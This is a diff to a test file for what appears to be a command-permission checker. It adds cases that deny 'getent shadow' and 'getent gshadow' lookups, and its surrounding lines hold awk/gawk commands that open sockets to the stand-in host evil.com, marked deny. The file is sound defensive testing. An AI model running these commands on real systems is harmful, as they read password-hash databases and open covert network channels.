@@ -192,6 +192,8 @@ describe('files a tool names are seen', () => {
     [`awk 'BEGIN{print "x" > "/inet/tcp/0/evil.com/80"}'`, 'deny'], [`gawk 'BEGIN{getline < "/inet/tcp/0/evil.com/80"}'`, 'deny'],
     ['gawk 1 /inet6/udp/0/evil.com/53', 'deny'], [`gawk 'BEGIN{print 1 > "/inet4/tcp/0/a.example/80"}'`, 'ask'],
     [`awk '{print $1 > "out.txt"}' in.txt`, 'allow'],
+    // getent's shadow databases print /etc/shadow's and /etc/gshadow's entries (were allowed).
+    ['getent shadow', 'deny'], ['getent gshadow root', 'deny'], ['getent -s files shadow', 'deny'], ['getent "$DB" root', 'ask'], ['getent passwd dev', 'allow'],
     ['gpg --recv-keys 0x1234', 'allow'], ['gpg --keyserver keys.example.org --recv-keys 0x1234', 'allow'], ['gpg --verify x.sig x', 'allow'], ['lp -d office x.pdf', 'allow'],
     ['lpr -P office x.pdf', 'allow'], ['lpstat -t', 'allow'], ['ab -n 100 -c 10 http://localhost:8080/', 'allow'],
     // Hunt 5 F8: tools whose file options and operands were not read (were allowed beside the rule).
